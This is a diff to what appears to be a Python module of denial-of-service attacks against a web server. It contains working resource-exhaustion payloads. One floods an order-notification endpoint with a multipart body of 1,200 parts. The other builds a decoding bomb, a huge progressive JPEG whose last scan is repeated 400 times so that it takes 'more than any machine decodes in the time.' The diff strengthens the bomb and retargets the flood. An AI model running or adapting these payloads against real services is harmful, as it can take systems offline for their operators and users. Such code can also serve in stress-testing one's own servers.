@@ -275,7 +275,8 @@ def many_form_fields(target: Target) -> None:
 def many_parts(target: Target) -> None:
     """As many parts of a multipart form."""
     body = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n' * 1200 + b"--b--\r\n"
-    head = _post("/login/", "multipart/form-data; boundary=b", f"Content-Length: {len(body)}", "Connection: close")
+    length = f"Content-Length: {len(body)}"
+    head = _post("/order/notify/", "multipart/form-data; boundary=b", length, "Connection: close")
     _flood(target, itertools.repeat(head + body))
 
 
@@ -328,12 +329,12 @@ def picture_bombs(target: Target) -> None:
 
 
 def jpegs_of_many_scans(target: Target) -> None:
-    """F4: the last scan of a large progressive JPEG a hundred times."""
+    """F4: the last scan of a large progressive JPEG four hundred times, more than any machine decodes in the time."""
     written = io.BytesIO()
     Image.new("L", (7000, 7000), 90).save(written, "JPEG", progressive=True)
     whole = written.getvalue()
     last = whole[whole.rindex(b"\xff\xda") : -2]
-    _crowd(target, 8, _release(target, whole[:-2] + last * 99 + b"\xff\xd9"))
+    _crowd(target, 8, _release(target, whole[:-2] + last * 400 + b"\xff\xd9"))
 
 
 QUICK: tuple[Attack, ...] = (
